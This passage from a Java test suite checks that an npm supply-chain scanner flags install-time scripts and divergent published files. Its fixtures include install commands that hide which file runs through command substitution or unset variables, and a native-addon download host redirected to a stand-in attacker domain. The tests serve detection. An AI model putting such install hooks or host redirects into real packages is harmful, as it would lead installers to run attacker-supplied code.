    void aFileAnInstallScriptNamesThroughNpmsPackageVariablesRunsAtInstall(String command) throws Exception {
        SortedMap<String, byte[]> tree = writtenSetup("5.0.0", command);
        ArtifactReport a = publishAndScan(tree, "5.0.0", with(tree, "scripts/setup.js", "console.log(\"installed\");\n"
                + SETUP_PAYLOAD));
        FileDivergence setup = row(a, "package/scripts/setup.js");
        assertEquals(FileStatus.PHANTOM, setup.status(), setup.toString());
        assertTrue(setup.riskFlags().contains(RiskFlag.AUTO_EXEC), setup.toString());
        assertTrue(setup.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    /**
     * A word of an install-time script that cannot be told — a variable npm does not set from the manifest, a command
     * substitution, backquotes — can name any file: every shipped file the commit does not hold as it is (written by
     * a script, ignored build output, changed) then runs at install, fail-closed; unchanged files stay matched.
     */
    @ParameterizedTest
    @ValueSource(strings = {"node $SETUP_SCRIPT", "node scripts/$(echo setup).js", "node `echo scripts/setup.js`",
            "node ${npm_package_config_setup:-x}", "node %SETUP%", "node $INIT_CWD/node_modules/widget/scripts/setup.js"})
    void anInstallScriptWordThatCannotBeToldMakesEveryChangedFileRunAtInstall(String command) throws Exception {
        SortedMap<String, byte[]> tree = writtenSetup("5.1.0", command);
        ArtifactReport a = publishAndScan(tree, "5.1.0", with(tree, "scripts/setup.js", SETUP_PAYLOAD,
                "tools/gen-setup.js", "console.log('console.log(\"installed\");');\nconsole.log(1);\n"));
        for (String path : List.of("package/scripts/setup.js", "package/tools/gen-setup.js")) {
            FileDivergence r = row(a, path);
            assertTrue(r.riskFlags().contains(RiskFlag.AUTO_EXEC), r.toString());
            assertTrue(r.highRisk(), r.toString());
        }
        FileDivergence index = row(a, "package/index.js");
        assertEquals(FileStatus.MATCH, index.status());
        assertFalse(index.riskFlags().contains(RiskFlag.AUTO_EXEC), index.toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    /** The benign forms: a committed setup script run by name or through config, shipped unchanged, stays matched. */
    @ParameterizedTest
    @ValueSource(strings = {"node scripts/setup.js", "node $npm_package_config_setup", "node \\\"$npm_package_config_setup\\\"",
            "node ./$npm_package_config_dir/setup.js $npm_package_version"})
    void aCommittedSetupScriptRunByNameOrThroughConfigAndShippedUnchangedStaysMatched(String command) throws Exception {
        String extra = ",\n  \"scripts\": {\"postinstall\": \"" + command + "\"},\n"
                + "  \"config\": {\"setup\": \"scripts/setup.js\", \"dir\": \"scripts\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.2.0", extra),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "scripts/setup.js", "console.log(\"installed\");\n");
        ArtifactReport a = publishAndScan(tree, "5.2.0", tree);
        FileDivergence setup = row(a, "package/scripts/setup.js");
        assertEquals(FileStatus.MATCH, setup.status());
        assertTrue(setup.riskFlags().contains(RiskFlag.AUTO_EXEC), "named by the postinstall: " + setup);
        assertFalse(a.files().stream().anyMatch(FileDivergence::highRisk), a.files().toString());
        assertFalse(a.verdict() == Verdict.HIGH_RISK || a.verdict() == Verdict.DIVERGENT, a.verdict().toString());
    }

    /** The published manifest pointing the config an install script reads at another committed file: an install-script change. */
    @Test
    void aPublishedConfigValueAnInstallScriptReadsIsAnInstallScriptChange() throws Exception {
        String extra = ",\n  \"scripts\": {\"postinstall\": \"node $npm_package_config_setup\"},\n"
                + "  \"config\": {\"setup\": \"scripts/setup.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.3.0", extra),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "scripts/setup.js", "console.log(\"installed\");\n", "test/fixture.js", SETUP_PAYLOAD);
        ArtifactReport a = publishAndScan(tree, "5.3.0", with(tree, "package.json", pkgJson("widget", "5.3.0",
                extra.replace("scripts/setup.js", "test/fixture.js"))));
        FileDivergence manifest = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, manifest.ruleId(), manifest.toString());
        assertTrue(manifest.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
        assertTrue(manifest.detail().orElseThrow().contains("npm_package_config_setup"), manifest.detail().orElseThrow());
        assertTrue(row(a, "package/test/fixture.js").riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    private static String addon(String version, String host) {
        return pkgJson("widget", version, ",\n  \"scripts\": {\"install\": \"node-pre-gyp install --fallback-to-build\"},\n"
                + "  \"binary\": {\"module_name\": \"addon\", \"module_path\": \"./lib/binding/{node_abi}-{platform}-{arch}\","
                + " \"host\": \"" + host + "\", \"remote_path\": \"v{version}\"},\n"
                + "  \"dependencies\": {\"@mapbox/node-pre-gyp\": \"^1.0.11\"}");
    }

    /**
     * Red team round 8 (c14): the install script unchanged, but the published {@code binary.host} (where node-pre-gyp
     * downloads the addon main then loads) is another: an install-script change, HIGH_RISK. The same field
     * unchanged is no finding.
     */
    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void aChangedDownloadHostOfANativeAddonInstallerIsAnInstallScriptChange(boolean changed) throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", addon("5.4.0", "https://releases.acme.example/widget/"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "binding.gyp",
                "{'targets': [{'target_name': 'addon', 'sources': ['addon.cc']}]}\n", "addon.cc", "int x;\n");
        ArtifactReport a = publishAndScan(tree, "5.4.0", changed
                ? with(tree, "package.json", addon("5.4.0", "https://attacker.example/widget/")) : tree);
        FileDivergence manifest = row(a, "package/package.json");
        if (changed) {
            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, manifest.ruleId(), manifest.toString());
            assertTrue(manifest.detail().orElseThrow().contains("changes binary"), manifest.detail().orElseThrow());
            assertTrue(manifest.highRisk());
            assertEquals(Verdict.HIGH_RISK, a.verdict());
        } else {
            assertEquals(FileStatus.MATCH, manifest.status(), manifest.toString());
            assertFalse(a.files().stream().anyMatch(FileDivergence::highRisk), a.files().toString());
        }
    }
}
